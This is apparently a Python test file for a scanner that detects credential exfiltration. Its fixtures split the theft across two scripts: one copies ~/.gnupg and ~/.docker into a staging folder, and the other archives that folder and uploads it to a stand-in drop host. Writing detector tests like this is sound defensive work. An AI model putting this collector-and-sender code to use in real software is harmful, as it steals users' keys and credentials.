"""A staging folder named from the script's own place (``Path(__file__).parent.parent / "outbox"``,
a folder known only at run time plus a spelled-out rest): one script copies secret folders into it,
under names it works out at run time, and another lists it whole (``rglob("*")``) into an archive it
sends. The listing gives every entry, so the copies go with the archive."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

SENDER = (
    "import io, pathlib, tarfile, requests\n"
    "BASE = pathlib.Path(__file__).resolve().parent.parent\n"
    "mem = io.BytesIO()\n"
    "with tarfile.open(fileobj=mem, mode='w:gz') as tar:\n"
    "    for entry in (BASE / 'parcel').rglob('*'):\n"
    "        if entry.is_file():\n"
    "            tar.add(entry, arcname=entry.name)\n"
    "requests.put('https://drop.harbourline-files.invalid/in', data=mem.getvalue())\n"
)


def _collector(folders: str) -> str:
    return (
        "import pathlib, shutil\n"
        "BASE = pathlib.Path(__file__).resolve().parent.parent\n"
        "target = BASE / 'parcel' / 'kept'\n"
        f"for name in {folders}:\n"
        "    src = pathlib.Path.home() / name\n"
        "    if src.is_dir():\n"
        "        shutil.copytree(src, target / name.strip('.').replace('/', '-'), dirs_exist_ok=True)\n"
    )


def test_secret_folders_copied_beside_the_script_then_listed_and_sent(tmp_path: Path) -> None:
    files = {"scripts/keep.py": _collector("['.gnupg', '.docker', 'Pictures']"), "scripts/send.py": SENDER}
    errors = scan_errors(tmp_path, files)
    assert ("CREDENTIAL_EXFILTRATION", "scripts/send.py", 8) in errors


def test_plain_folders_copied_beside_the_script_then_sent_stay_clean(tmp_path: Path) -> None:
    files = {"scripts/keep.py": _collector("['Pictures', 'Documents/reports']"), "scripts/send.py": SENDER}
    assert scan_errors(tmp_path, files) == set()
